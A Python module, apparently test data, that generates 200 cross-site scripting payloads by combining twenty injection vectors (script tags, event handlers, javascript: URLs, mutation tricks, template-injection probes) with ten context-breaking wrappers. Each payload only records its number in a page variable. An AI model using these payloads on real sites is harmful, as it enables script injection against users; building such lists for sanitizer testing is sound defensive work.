"""Texts that try to run a script wherever a page would let them: 200, each told apart by its number."""

from itertools import product

_RUN = "window.ran=(window.ran||[]).concat({number})"

_WAYS = (
    "<script>{run}</script>",
    "<ScRiPt src=data:text/javascript,{run}></ScRiPt>",
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<body onpageshow={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:parent.{run}></iframe>",
    "<a href=javascript:{run} autofocus onfocus={run}>read on</a>",
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>",
    "<video><source onerror={run}></video>",
    "<math><mtext><style><img src=x onerror={run}></style></mtext></math>",
    "<form action=javascript:{run}><button autofocus onfocus={run}>go</button></form>",
    "<base href=data:text/html,><script src=x></script><img src=x onerror={run}>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<style>@import 'data:text/css,*{{background:url(x)}}';</style><img src=x onerror={run}>",
    "<object data='data:text/html,<script>parent.{run}</script>'></object>",
    "<template><img src=x onerror={run}></template><noscript><p title='</noscript><img src=x onerror={run}>'",
    "{{{{ self.__init__.__globals__ }}}}{{% set x = cycler %}}${{7*7}}<%= 7*7 %><img src=x onerror={run}>",
)
_BREAKS = (
    "{way}",
    '">{way}',
    "'>{way}",
    "</title></textarea></script></style>{way}",
    "-->{way}<!--",
    "]]>{way}",
    '" onmouseover="{run}" x="{way}',
    "\u202e{way}\u202c",
    "&lt;b&gt;{way}&#x3c;i&#x3e;",
    "\\u003cimg\\u0020src=x\\u0020onerror={run}\\u003e{way}",
)


def _written(number: int, way: str, around: str) -> str:
    run = _RUN.format(number=number)
    return around.format(way=way.format(run=run), run=run)


PAYLOADS = tuple(
    _written(number, way, around) for number, (way, around) in enumerate(product(_WAYS, _BREAKS))
)
assert len(PAYLOADS) == len(set(PAYLOADS)) == 200
